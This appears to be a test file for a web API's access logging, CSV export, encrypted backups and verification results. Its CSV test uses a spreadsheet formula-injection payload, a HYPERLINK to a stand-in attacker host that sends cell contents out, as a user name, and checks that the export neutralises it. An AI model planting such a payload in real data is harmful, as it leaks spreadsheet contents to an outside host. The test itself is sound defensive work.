// The office's housekeeping over HTTP: whatever is sealed and shown is in the access record; files for spreadsheets; backups that ask for the
// password; verification for everybody.

import { randomBytes } from 'node:crypto';
import { readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Decrypter, generateX25519Identity, identityToRecipient } from 'age-encryption';
import { parse } from 'csv-parse/sync';
import { beforeAll, expect, test, vi } from 'vitest';
import { openStore } from '../database/index.ts';
import { emptyDatabase } from '../database/testing/empty.ts';
import type { Access } from '../housekeeping/index.ts';
import { BOOK } from '../office/testing/office.ts';
import { ORIGIN, TestServer, type Who } from './testing/api.ts';
import { operationsOf } from './testing/generate.ts';

const server = TestServer.forAll();
beforeAll(async () => {
  await server.office.stage('s1', `${BOOK}publication: { audits: at-close }\n`);
  await server.office.fill();
  await server.office.chain();
});

const PROGRAMME = '/api/programmes/test';
const lines = async (): Promise<Access[]> => {
  const all: Access[] = [];
  for (;;) {
    const before = all.length > 0 ? `?before=${all.at(-1)!.id}` : '';
    const { body } = await server.get('auditor', `/access${before}`);
    all.push(...body);
    if (body.length === 0) return all;
  }
};
const clear = async () => {
  await server.programme.store.users.ask((database) => database.execute('delete from jikji.accesses'));
  await server.open(); // which knows no lines
};
const said = (all: readonly Access[], user: string) =>
  all
    .filter((line) => line.user === user)
    .map(({ what, of }) => `${what} ${of}`)
    .sort();

test('each reading of something sealed leaves a line with who, what and how; readings of the public leave none', async () => {
  await clear();
  const read: [Who, string, string[]][] = [
    ['office', '/submissions/s1-a', ['audit s1-a', 'scores s1']],
    ['auditor', '/submissions/s1-b', ['audit s1-b']],
    ['consortium', '/submissions/s1-a', ['audit s1-a']],
    ['consortium', '/submissions/s1-b', ['audit s1-a']],
    ['rival', '/consortia/b', ['audit s1-b']],
    ['expert', '/submissions/s1-a', []],
    ['outsider', '/stages/s1', []],
  ];
  for (const [who, path, expected] of read) {
    expect(await server.status(who, 'get', path)).toBe(200);
    expect([who, path, said(await lines(), `the-${who}`)]).toEqual([who, path, expected]);
  }
  await server.get('public', '/stages/s1');
  expect((await lines()).map(({ user }) => user)).not.toContain('null');
  const before = (await lines()).length;
  await server.get('office', '/stages/s1');
  expect(said(await lines(), 'the-office')).toEqual(
    ['audit s1-a', 'audit s1-b', 'audit s1-c', 'forms s1', 'judgements s1', 'scores s1'].sort(),
  );
  await server.get('office', '/stages/s1');
  expect((await lines()).length).toBe(before + 4);
});

/** What the public is not shown: a value of each kind that the filled stage has. */
const MARKS: [RegExp, string][] = [
  [/"verdict":"holds"/, 'audit'],
  [/"value":0\.75/, 'scores'],
  [/"choice":|"judge":/, 'judgements'],
  [/"expert":"(kim|lee)"/, 'forms'],
];

test('no route shows anything sealed without a line, whoever reads', async () => {
  const ids: Record<string, string[]> = {
    ...{ programme: ['test'], stage: ['s1'], consortium: ['a', 'b', 'c'], submission: ['s1-a', 's1-b', 's1-c'] },
  };
  const roles = ['office', 'auditor', 'consortium', 'rival', 'expert', 'evaluator'] as const;
  let found = 0;
  for (const { method, path, streams } of operationsOf(server.application.document)) {
    if (method !== 'get' || streams || !path.startsWith('/api/programmes/') || /access/.test(path)) continue;
    let paths = path.endsWith('/log') ? [`${path}?count=200&from=1`] : [path];
    for (const [, name] of path.matchAll(/\{(\w+)\}/g))
      paths = paths.flatMap((one) => (ids[name!] ?? ['none']).map((id) => one.replace(`{${name}}`, id)));
    for (const one of paths) {
      const open = JSON.stringify(await server.read('public', one));
      for (const who of roles) {
        const text = JSON.stringify(await server.read(who, one));
        const kinds = MARKS.flatMap(([mark, kind]) => (mark.test(text) && !mark.test(open) ? [kind] : []));
        if (kinds.length === 0) continue;
        found++;
        await clear();
        await server.get(who, one);
        const noted = (await lines()).filter(({ user }) => user === `the-${who}`).map(({ what }) => what);
        expect([who, one, noted]).toEqual([who, one, expect.arrayContaining(kinds)]);
      }
    }
  }
  expect(found).toBeGreaterThan(10); // so there was something to be found
});

test('a line is written before the answer: where it cannot be, nothing is shown', async () => {
  await clear();
  const sql = (text: string) => server.programme.store.users.ask((database) => database.execute(text));
  await sql('alter table jikji.accesses add constraint never check (false) not valid');
  const log = vi.spyOn(console, 'error').mockImplementation(() => {});
  const { status, body } = await server.get('office', '/submissions/s1-a');
  log.mockRestore();
  await sql('alter table jikji.accesses drop constraint never');
  expect(status).toBe(500);
  expect(JSON.stringify(body)).not.toContain('holds');
});

test('an API token is told from a log-in, also where it is sent as a cookie', async () => {
  await clear();
  const { body } = await server.post('auditor', '/api/tokens', { name: 'x' });
  const path = '/submissions/s1-c';
  await server.get({ who: 'public', headers: { authorization: `Bearer ${body.token}` } }, path);
  expect((await lines()).map(({ via }) => via)).toEqual(['token']);
  await server.get({ who: 'public', headers: { cookie: `jikji=${body.token}` } }, path);
  expect((await lines()).map(({ via }) => via)).toEqual(['token']);
  await server.get('auditor', path);
  expect((await lines()).map(({ via }) => via)).toEqual(['log-in', 'token']);
});

test('as a file for spreadsheets: all lines, no formula, a harmless file name', async () => {
  await clear();
  const { body } = await server.post('office', '/api/invitations', { role: 'auditor', programme: 'test' });
  const name = '=HYPERLINK("http://evil.example?x="&A1,"open"), 한글';
  const who = { token: body.token, user: 'formula', name, password: 'a long enough one' };
  const accepted = await server.post('public', '/api/invitations/accept', who);
  const cookie = accepted.headers.get('set-cookie')!.split(';')[0]!;
  await server.get({ who: 'public', headers: { cookie } }, '/submissions/s1-a');
  const file = await server.get('auditor', '/access.csv');
  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(file.headers.get('content-disposition')).toBe('attachment; filename="test-access.csv"');
  const rows = parse(file.body, { bom: true, columns: true }) as Record<string, string>[];
  const [line] = await lines();
  expect(rows).toEqual([
    {
      ...{ time: line!.time, user: 'formula', name: `'${name}`, role: 'auditor', consortium: '' },
      ...{ via: 'log-in', what: 'audit', of: 's1-a' },
    },
  ]);
  const head = await server.ask('auditor', 'head', '/access.csv');
  expect([head.status, head.body]).toEqual([200, '']);
});

const password = 'password of office';
const recipientOf = async (identity: string) => identityToRecipient(identity);
const stale = async () => {
  const old = new Date(Date.now() - 6 * 60_000).toISOString();
  const { users } = server.programme.store;
  await users.ask((database) =>
    database.execute(`update jikji.sessions set created_at = '${old}', confirmed_at = null`),
  );
};

test('a backup asks for the password of the last minutes, and gives an encrypted file once, on no disk', {
  timeout: 600_000,
}, async () => {
  const identity = await generateX25519Identity();
  const recipient = await recipientOf(identity);
  const prepare = () => server.post('office', '/backups', { recipient });
  await stale();
  const refused = await prepare();
  expect(refused.refusal).toEqual([403, 'log-in-stale']);
  expect((await server.post('office', '/api/confirm', { old: 'wrong' })).body.error.code).toBe('log-in-wrong');
  expect((await prepare()).status).toBe(403);
  expect(await server.status('office', 'post', '/api/confirm', { old: password })).toBe(200);
  const { id } = (await prepare()).body;

  const { body: api } = await server.post('office', '/api/tokens', { name: 'x' });
  const bearer = { who: 'public' as const, headers: { authorization: `Bearer ${api.token}` } };
  for (const [method, path, body] of [
    ['post', '/backups', { recipient }],
    ['get', `/backups/${id}`, undefined],
    ['post', '/api/confirm', { old: password }],
  ] as const) {
    const { status, body: answer } = await server.ask(bearer, method, path, body);
    expect([path, status, answer.error.code]).toEqual([path, 403, 'log-in-stale']);
  }
  // A request for the head alone does not use it up.
  const headOf = (await server.ask('office', 'head', `/backups/${id}`)).headers;
  expect(headOf.get('content-disposition')).toMatch(/^attachment; filename="test-\d{4}-\d\d-\d\d\.backup\.age"$/);

  const files = () => [readdirSync(server.office.folder, { recursive: true }), readdirSync(tmpdir())];
  const head = server.programme.head;
  const response = await server.application.app.request(`${ORIGIN}${PROGRAMME}/backups/${id}`, {
    headers: { host: 'localhost:1377', cookie: `jikji=${server.sessions.get('office')!.token}` },
  });
  expect(response.headers.get('content-type')).toBe('application/octet-stream');
  const before = files()
    .flat()
    .filter((name) => /backup|age|tmp$/.test(String(name)));
  const reader = response.body!.getReader();
  const pieces: Uint8Array[] = [];
  for (let { done, value } = await reader.read(); !done; { done, value } = await reader.read()) {
    pieces.push(value!);
    await server.office.say('organisation-added', {
      id: `o-${pieces.length}`,
      name: { en: 'O' },
      country: 'XX',
      roles: ['model'],
    });
  }
  const bytes = Buffer.concat(pieces);
  expect(
    files()
      .flat()
      .filter((name) => /backup|age|tmp$/.test(String(name))),
  ).toEqual(before);
  const decrypter = new Decrypter();
  decrypter.addIdentity(identity);
  const file = join(server.office.folder, 'plain');
  writeFileSync(file, await decrypter.decrypt(bytes));
  const empty = await openStore({ folder: await emptyDatabase(join(server.office.folder, 'again')) });
  expect((await empty.restore(file)).head).toEqual(head);
  await empty.close();

  const { body: list } = await server.get('office', '/backups');
  expect(list[0]).toMatchObject({ id, user: 'the-office', state: 'complete', entries: head.seq, bytes: bytes.length });
  expect((await lines())[0]).toMatchObject({ user: 'the-office', what: 'backup', of: id, via: 'log-in' });
  const again = await server.get('office', `/backups/${id}`);
  expect(again.refusal).toEqual([409, 'backup-taken']);
  expect(await server.status('office', 'get', '/backups/none')).toBe(404);
});

test('a download ends when its user is no longer of the office', async () => {
  const { body: invited } = await server.post('office', '/api/invitations', { role: 'office' });
  const who = { token: invited.token, user: 'taker', name: 'Taker', password: 'a long enough one' };
  const accepted = await server.post('public', '/api/invitations/accept', who);
  const cookie = accepted.headers.get('set-cookie')!.split(';')[0]!;
  const taker = { who: 'public' as const, headers: { cookie } };
  // More than all buffers on the way hold, so that the download still runs when its user's role changes.
  await server.programme.store.secrets.put('long', randomBytes(4 << 20).toString('base64'));
  const recipient = await recipientOf(await generateX25519Identity());
  const { body } = await server.post(taker, '/backups', { recipient });
  const response = await server.application.app.request(`${ORIGIN}${PROGRAMME}/backups/${body.id}`, {
    headers: { host: 'localhost:1377', cookie },
  });
  await server.ask('office', 'put', '/api/users/taker/role', { role: 'expert', programme: 'test' });
  await expect(response.arrayBuffer()).rejects.toThrow('the log-in has ended');
  const { body: list } = await server.get('office', '/backups');
  expect(list[0]).toMatchObject({ id: body.id, state: 'unfinished', sha256: null });
  await server.programme.store.secrets.delete('long');
});

test('a secret key that is pasted as a recipient is in no answer', async () => {
  const identity = await generateX25519Identity();
  await server.post('office', '/api/confirm', { old: password });
  const { status, body } = await server.post('office', '/backups', { recipient: identity });
  expect([status, body.error.code]).toEqual([422, 'recipient-broken']);
  expect(JSON.stringify(body)).not.toContain(identity.slice(16));
});

test('everybody sees the result of a verification; names and reasons only office and auditors', {
  timeout: 600_000,
}, async () => {
  const path = '/verification';
  expect((await server.post('office', path)).body).toEqual({});
  const state = (who: Who) => server.read(who, path);
  await vi.waitFor(async () => expect((await state('office')).running).toBeNull(), 50_000);
  const { last } = await state('auditor');
  expect(last).toMatchObject({ user: 'the-office', result: { verdict: 'holds', altered: null } });
  const { last: open } = await state('public');
  expect(open).toEqual({ ...last, user: null });
  const refuted = `'{"verdict":"refuted","altered":"a secret of entry 3","alteredKo":"기록 3번의 비밀"}'`;
  await server.programme.store.users.ask((database) =>
    database.execute(`update jikji.verifications set result = result || ${refuted}::jsonb`),
  );
  expect((await state('auditor')).last.result).toMatchObject({
    altered: expect.stringContaining('secret'),
    alteredKo: expect.stringContaining('비밀'),
  });
  const told = JSON.stringify(await state('public'));
  expect(told).toContain('refuted');
  expect(told).not.toMatch(/secret|비밀/);
});
